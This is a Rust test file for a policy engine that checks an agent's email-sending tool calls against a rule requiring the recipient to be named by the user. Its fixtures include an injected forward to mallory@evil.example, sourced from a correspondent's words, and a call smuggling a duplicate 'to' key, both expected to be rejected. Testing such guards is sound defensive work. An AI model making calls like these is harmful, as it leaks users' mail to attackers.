//! Calls under a bundle that was given.

use crate::support::{fixture, outcomes, under};

const HEAD: (&str, &str) = ("bundle.toml", "name = \"desk\"\n");
const SEND: (&str, &str) = (
    "tools/email.send.json",
    r#"{"tool": "email.send", "action": "email.send", "effect": "irreversible",
        "arguments": {"type": "object", "properties": {
            "to": {"type": "array", "items": {"type": "string"}},
            "subject": {"type": "string"}, "body": {"type": "string"}},
            "required": ["to", "subject", "body"]},
        "roles": {"/to": "identity", "/subject": "text", "/body": "text"},
        "targets": [{"at": "/to", "type": "email", "entity": "Contact"}]}"#,
);
const NAMED: (&str, &str) = (
    "policies/mail.cedar",
    r#"@id("only-named")
@reason("The person named the address.")
permit (principal, action == Action::"email.send", resource)
when { context.intent.live && context.target.sources.containsAny(["user", "user_earlier"]) };
"#,
);

#[test]
fn a_correspondents_words_ground_nothing_and_nobodys_call_is_stopped() {
    let report = under(&fixture("own.jsonl"), &[HEAD, SEND, NAMED]);
    assert_eq!(
        outcomes(&report),
        [
            r#"rejected email.send {"to":["mallory@evil.example"],"subject":"Fwd","body":"…"}"#,
            r#"rejected email.send {"to":["nobody@asked.example"],"subject":"x","body":"y"}"#,
            r#"approved email.send {"to":["jo@acme.example"],"subject":"Thanks","body":"Thank you."}"#,
        ]
    );
    let mallory = &report.calls[0];
    assert_eq!(mallory.reasons[0].id, "countersign.no-permit");
    let to = &mallory.arguments[0];
    assert_eq!(to.places, ["a correspondent's words in this turn"]);
    assert_eq!(to.needed, ["user", "user_earlier"]);
    let nobody = &report.calls[1];
    assert!(nobody.turn.is_none());
    assert!(
        nobody
            .advice
            .as_ref()
            .unwrap()
            .contains("nobody asked for it")
    );
    assert_eq!(report.tally.rules[0].id, "countersign.no-permit");
    assert_eq!((report.sessions, report.turns), (2, 1));
}

#[test]
fn calls_are_judged_with_what_came_before_them_only() {
    let line = |text: &str| text.to_owned();
    let send = r#"{"kind":"call","tool":"email.send","args":{"to":["jo@acme.example"],"subject":"","body":""}}"#;
    let lines = [
        line(r#"{"kind":"turn","text":"Hello."}"#),
        line(send),
        line(r#"{"kind":"turn","text":"Write to jo@acme.example."}"#),
        line(send),
        line(r#"{"kind":"turn","text":"And again."}"#),
        line(send),
    ];
    let report = under(&lines.join("\n"), &[HEAD, SEND, NAMED]);
    let calls = report.calls.iter();
    let told: Vec<(usize, &str, bool)> = calls
        .map(|call| (call.number, call.outcome, call.is_after_a_stop))
        .collect();
    assert_eq!(
        told,
        [
            (1, "rejected", false),
            (2, "approved", true),
            (3, "approved", true)
        ]
    );
    assert_eq!(report.tally.after_a_stop, 2);
    let earlier = &report.calls[2].arguments[0];
    assert_eq!(earlier.places, ["the person's words in an earlier turn"]);
    assert!(
        report
            .notes
            .iter()
            .any(|note| note.starts_with("2 calls stand after"))
    );
}

#[test]
fn what_cannot_be_read_as_a_call_is_stopped_and_says_why() {
    let lines = [
        r#"{"kind":"turn","text":"Write to jo@acme.example."}"#,
        r#"{"kind":"call","tool":"email.send","args":"{\"to\":[\"jo@acme.example\"],\"to\":[\"x@evil.example\"]}"}"#,
        r#"{"kind":"call","tool":"email.send","args":{"to":"jo@acme.example","subject":"","body":""}}"#,
        r#"{"kind":"call","tool":"email.sent","args":{}}"#,
    ];
    let report = under(&lines.join("\n"), &[HEAD, SEND, NAMED]);
    let calls = report.calls.iter();
    let told: Vec<(&str, String)> = calls
        .map(|call| {
            (
                call.reasons[0].id.as_str(),
                call.advice.clone().unwrap_or_default(),
            )
        })
        .collect();
    assert_eq!(told[0].0, "countersign.malformed-call");
    assert!(told[0].1.contains("duplicate key `to`"), "{}", told[0].1);
    assert_eq!(told[1].0, "countersign.schema-mismatch");
    assert!(told[1].1.contains("array"), "{}", told[1].1);
    assert_eq!(told[2].0, "countersign.unknown-tool");
}
